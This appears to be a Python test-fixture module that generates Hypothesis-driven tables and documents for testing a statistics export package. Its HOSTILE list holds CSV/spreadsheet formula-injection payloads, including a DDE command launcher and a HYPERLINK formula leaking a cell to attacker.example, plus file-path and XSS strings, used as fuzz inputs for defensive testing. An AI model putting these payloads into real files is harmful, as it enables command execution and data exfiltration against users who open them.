"""Documents for tests: one of any table, and any table there can be."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from hypothesis import strategies as st

from meantime.formats.document import Document
from meantime.table import Cell, Column, Kind, Table

LOCATION = Column(name="location", kind=Kind.TEXT, meaning="where")
MEAN = Column(name="mean", kind=Kind.NUMBER, unit="percent", meaning="mean of the rows")
COUNT = Column(name="count", kind=Kind.INTEGER, meaning="rows")

# What a cell of a data file could hold to be run, or followed, by a program that shows it.
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1, "see")',
    "+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=1}",
    "http://attacker.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "| --- |",
    "[x](javascript:alert(1))",
    "_x0041_",
    "NULL",
    "",
    "  ",
    "'",
    '"',
    "a,b;c\td",
    "x\r\ny",
    "\ufeffx",
    "\x00\x01\x1f\x7f\x85\u2028",
    "\ufffe\uffff",
    "Åland 🏝 \u202ex",
)


def of(table: Table, **more: Any) -> Document:
    """A document of a table; ``more`` are fields that the test is about."""
    facts: dict[str, Any] = {
        "statistic": "states_mean",
        "parameters": {"question": "Q"},
        "dataset": "cdc",
        "fingerprint": "f" * 64,
        "method_version": 3,
        "citation": "Cite this.",
    }
    return Document(**(facts | {"table": table} | more))


def of_names(*names: str | None) -> Document:
    """A document of some locations, each with the mean 1.0."""
    return of(Table(columns=(LOCATION, MEAN), data=(list(names), [1.0] * len(names))))


def of_numbers(*numbers: float | None) -> Document:
    """A document of some means."""
    return of(Table(columns=(MEAN,), data=(list(numbers),)))


# All that UTF-8 can say: no halves of surrogate pairs.
texts = st.text(st.characters(codec="utf-8"), max_size=20) | st.sampled_from(HOSTILE)
numbers = st.floats(allow_nan=False, allow_infinity=False) | st.sampled_from(
    [0.0, -0.0, 5e-324, 1.7976931348623157e308, 0.1 + 0.2, 1e16, 123456789.12345678, 2.0**53 + 2]
)
integers = st.integers(-(2**63), 2**63 - 1) | st.sampled_from([2**53, 2**53 + 1, 2**63 - 1, -(2**63)])
_CELLS: dict[Kind, st.SearchStrategy[Any]] = {Kind.TEXT: texts, Kind.NUMBER: numbers, Kind.INTEGER: integers}


@st.composite
def tables(draw: st.DrawFn) -> Table:
    """Any table: up to four columns of any kind, up to eight rows, anything missing."""
    kinds = draw(st.lists(st.sampled_from(Kind), min_size=1, max_size=4))
    length = draw(st.integers(0, 8))
    data: tuple[Sequence[Cell], ...] = tuple(
        draw(st.lists(st.none() | _CELLS[kind], min_size=length, max_size=length)) for kind in kinds
    )
    units = draw(st.lists(st.none() | texts, min_size=len(kinds), max_size=len(kinds)))
    columns = tuple(
        Column(name=f"column_{index}", kind=kind, unit=unit, meaning=draw(texts))
        for index, (kind, unit) in enumerate(zip(kinds, units, strict=True))
    )
    sentences = st.lists(texts, max_size=2).map(tuple)
    return Table(columns=columns, data=data, notes=draw(sentences), warnings=draw(sentences))


documents = st.builds(of, tables(), dataset=texts, citation=texts, parameters=st.dictionaries(texts, texts, max_size=3))


def written(cells: Sequence[object]) -> list[str]:
    """Cells as Python writes them: equal only if the doubles are the same to the bit, and 1 is not 1.0."""
    return [repr(cell) for cell in cells]
